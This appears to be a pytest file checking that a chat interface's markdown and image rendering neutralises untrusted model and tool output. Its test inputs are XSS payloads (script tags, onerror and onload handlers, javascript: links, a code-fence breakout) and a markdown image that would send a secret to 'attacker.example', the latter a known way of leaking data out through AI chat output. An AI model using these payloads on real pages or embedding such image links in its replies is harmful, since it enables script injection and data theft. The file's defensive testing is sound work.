"""Untrusted model and tool text is rendered inert."""

from __future__ import annotations

import base64
from html.parser import HTMLParser

import pytest

from boocode.chat.rendering import ALLOWED_TAGS, image_data_url, images_for, render_markdown

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 16).decode()


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[click](javascript:alert(1))",
        "<a href='javascript:alert(1)'>x</a>",
        "<iframe src='https://example.com'></iframe>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<svg onload=alert(1)>",
    ],
)
def test_markdown_cannot_inject_markup(text: str) -> None:
    elements = parse(render_markdown(text))
    for tag, attributes in elements:
        assert tag in ALLOWED_TAGS
        for name, value in attributes:
            assert not name.startswith("on")
            assert not (value or "").lower().startswith("javascript:")


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


def parse(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """The elements a browser would build (tag, attributes)."""
    parser = _Elements()
    parser.feed(html)
    return parser.found


def test_markdown_keeps_formatting_and_safe_links() -> None:
    html = render_markdown("**bold** `code` [site](https://example.com)\n\n| a |\n|---|\n| 1 |")
    assert "<strong>bold</strong>" in html and "<code>code</code>" in html and "<table>" in html
    assert 'href="https://example.com"' in html and 'rel="noopener noreferrer nofollow"' in html


def test_markdown_images_are_never_loaded() -> None:
    html = render_markdown("![secret](https://attacker.example/?data=secret)")
    assert "<img" not in html


def test_only_raster_images_with_valid_base64_become_data_urls() -> None:
    assert (
        image_data_url({"type": "image", "mime_type": "image/png", "data": PNG})
        == f"data:image/png;base64,{PNG}"
    )
    assert image_data_url({"type": "image", "mime_type": "image/svg+xml", "data": PNG}) is None
    assert image_data_url({"type": "image", "mime_type": "text/html", "data": PNG}) is None
    assert (
        image_data_url({"type": "image", "mime_type": "image/png", "data": 'not base64!"><script>'}) is None
    )
    assert image_data_url({"type": "audio", "mime_type": "audio/wav", "data": PNG}) is None


def test_images_for_counts_what_it_leaves_out() -> None:
    parts = [
        {"type": "image", "mime_type": "image/png", "data": PNG},
        {"type": "image", "mime_type": "image/svg+xml", "data": PNG},
        {"type": "audio", "mime_type": "audio/wav", "data": PNG},
    ]
    urls, left_out = images_for(parts)
    assert len(urls) == 1 and left_out == 1
